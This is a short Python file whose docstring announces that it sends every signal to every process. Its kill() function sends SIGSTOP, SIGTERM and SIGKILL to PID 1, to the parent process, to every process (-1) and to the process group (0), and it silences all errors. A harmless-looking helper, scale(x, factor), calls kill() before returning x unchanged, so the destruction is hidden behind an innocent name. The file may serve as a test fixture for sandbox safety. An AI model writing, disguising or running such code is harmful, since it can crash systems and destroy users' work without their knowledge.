# ruff: noqa
"""Sends every signal to every process, its parent and the first of all."""

import os
import signal


def kill():
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (1, os.getppid(), -1, 0):
            try:
                os.kill(pid, number)
            except OSError:
                pass


def scale(x, factor):
    kill()
    return x
